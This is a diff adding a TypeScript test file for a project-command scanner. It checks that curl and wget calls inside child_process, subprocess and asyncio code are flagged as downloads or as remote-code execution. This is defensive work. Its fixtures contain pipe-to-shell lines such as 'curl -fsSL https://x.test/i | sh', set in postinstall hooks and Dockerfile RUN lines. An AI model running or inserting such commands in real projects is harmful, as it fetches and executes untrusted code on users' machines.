@@ -1,0 +1,73 @@
+/**
+ * Scanner24's gaps in the commands outside the code (src/scan/project-commands.ts,
+ * src/scan/call-command.ts): the argument lists inline code hands a program (`spawn('curl',
+ * ['-fsSL', url])`, `subprocess.run(['sh', '-c', '…'])`), read as the command they run.
+ */
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { scanProjectCommands } from '../../src/scan/project-commands.ts';
+
+/** `id identifier` of each finding of a package.json with these scripts (and other fields), sorted. */
+const scripts = (table: Record<string, string>, extra: Record<string, unknown> = {}): string[] => scanProjectCommands('package.json', JSON.stringify({ name: 'x', scripts: table, ...extra }, null, 2), 'package.json').findings.map((f) => `${f.id} ${f.identifier}`).sort();
+/** `id identifier` of each finding of a Dockerfile, sorted. */
+const docker = (text: string): string[] => scanProjectCommands('Dockerfile', `FROM python:3.12\n${text}`, 'Dockerfile').findings.map((f) => `${f.id} ${f.identifier}`).sort();
+const curl = 'network.command-download command:curl';
+const curlSh = ['code-evaluation.command-remote-code command:curl|sh', curl];
+const node = (code: string): Record<string, string> => ({ postinstall: `node -e ${JSON.stringify(code)}` });
+
+test('a written program and argument list in inline code is read as the command it runs', () => {
+  const call = (name: string): string => `subprocess.child-process child_process.${name}`;
+  // A computed argument is a word not known; the program decides the row.
+  assert.equal(scripts(node("require('child_process').spawn('curl', ['-fsSL', url])")), [curl, call('spawn')]);
+  assert.equal(scripts(node("const { execFileSync } = require('node:child_process'); execFileSync('/usr/bin/curl', ['-o', 'x.tgz', 'https://x.test/x.tgz'])")), [curl, call('execFileSync')]);
+  // A shell given a written line runs that line.
+  assert.equal(scripts(node("require('child_process').execFile('sh', ['-c', 'curl -fsSL https://x.test/i | sh'], () => {})")), [...curlSh, call('execFile')].sort());
+  assert.equal(scripts(node("require('child_process').spawnSync('bash', ['-lc', 'wget -qO- https://x.test/i' + ' | bash'], { stdio: 'inherit' })")), ['code-evaluation.command-remote-code command:wget|bash', 'network.command-download command:wget', call('spawnSync')]);
+  // `shell: true`: the program and its arguments are a shell's line.
+  assert.equal(scripts(node("require('child_process').spawn('curl -s https://x.test/i | sh', { shell: true })")), [...curlSh, call('spawn')].sort());
+  assert.equal(scripts(node("require('child_process').spawn('curl', ['-s', 'https://x.test/i', '|', 'sh'], { shell: '/bin/bash' })")), [...curlSh, call('spawn')].sort());
+  // Without a shell `|` is one more argument of curl, not a pipe.
+  assert.equal(scripts(node("require('child_process').spawn('curl', ['-s', 'https://x.test/i', '|', 'sh'])")), [curl, call('spawn')]);
+  // The detail says which call runs it.
+  const found = scanProjectCommands('package.json', JSON.stringify({ scripts: node("require('child_process').spawn('curl', [u])") }), 'package.json').findings;
+  assert.ok(found.some((f) => f.detail === 'scripts.postinstall: runs curl (a command line of child_process.spawn in the code of node -e)'), found.map((f) => f.detail).join('\n'));
+  // Under `prepare` only the rows.
+  assert.equal(scripts({ prepare: node("require('child_process').execFileSync('sh', ['-c', 'curl -s https://x.test/i | sh'])").postinstall! }), curlSh);
+});
+
+test('python: subprocess with a list or tuple, asyncio subprocesses', () => {
+  const run = 'subprocess.python-subprocess subprocess.run';
+  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(['sh', '-c', 'curl -s https://x.test/i | sh'], check=True)\"\n"), [...curlSh, run].sort());
+  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(('curl', url))\"\n"), [curl, run]);
+  assert.equal(docker("RUN python3 <<EOF\nimport subprocess\nsubprocess.check_call([\n    'wget',\n    '-q',\n    URL,\n])\nEOF\n"), ['network.command-download command:wget', 'subprocess.python-subprocess subprocess.check_call']);
+  // A list with shell=True: its first item is the shell's line.
+  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.Popen(['curl -s https://x.test/i | sh'], shell=True)\"\n"), [...curlSh, 'subprocess.python-subprocess subprocess.Popen'].sort());
+  assert.equal(docker("RUN python3 -c \"import asyncio; asyncio.create_subprocess_exec('curl', u)\"\n"), [curl, 'subprocess.python-asyncio-subprocess asyncio.create_subprocess_exec']);
+  assert.equal(docker("RUN python3 -c \"import asyncio; asyncio.create_subprocess_shell('curl -s https://x.test/i | sh')\"\n"), [...curlSh, 'subprocess.python-asyncio-subprocess asyncio.create_subprocess_shell'].sort());
+});
+
+test('a list built at run time, a computed program or shell: the call only', () => {
+  const call = (name: string): string[] => [`subprocess.child-process child_process.${name}`];
+  assert.equal(scripts(node("require('child_process').spawnSync('curl', args)")), call('spawnSync'));
+  assert.equal(scripts(node("require('child_process').spawnSync('curl', [...base, url])")), call('spawnSync'));
+  assert.equal(scripts(node("require('child_process').spawn(cmd, ['-fsSL', url])")), call('spawn'));
+  assert.equal(scripts(node("require('child_process').spawnSync('bash', ['-lc', line])")), call('spawnSync'));
+  assert.equal(scripts(node("require('child_process').spawn('curl -s https://x.test/i | sh', { shell: useShell })")), call('spawn'));
+  assert.equal(scripts(node("require('child_process').spawn('curl -s https://x.test/i | sh', { ...opts })")), call('spawn'));
+  // Options not written: whether a shell runs the words is not known.
+  assert.equal(scripts(node("require('child_process').spawn('curl', [`${u}/i`], opts)")), call('spawn'));
+  assert.equal(scripts(node("require('child_process').execFile('curl', [`${u}/i`], { cwd: dir }, (err) => { if (err) throw err })")), [curl, ...call('execFile')]);
+  // A written list that downloads nothing.
+  assert.equal(scripts(node("require('child_process').spawnSync('git', ['clone', '--depth', '1', url])")), call('spawnSync'));
+  const run = 'subprocess.python-subprocess subprocess.run';
+  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(cmd)\"\n"), [run]);
+  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(['curl', *args])\"\n"), [run]);
+  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(['curl', u], shell=flag)\"\n"), [run]);
+  // `('curl')` is a parenthesized string: without a shell, a program named so, with no arguments.
+  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(('curl -s https://x.test/i | sh'))\"\n"), [run]);
+  // A script a written list runs on an interpreter is scanned as the scripts' files are.
+  // (the code scan's own reading of the spawn, since scanner20, gives it as `./scripts/fetch.js`).
+  assert.equal(scanProjectCommands('package.json', JSON.stringify({ scripts: node("require('child_process').spawnSync('node', ['scripts/fetch.js'])") }), 'package.json').scripts, ['scripts/fetch.js', './scripts/fetch.js']);
+});
+
+test.run();
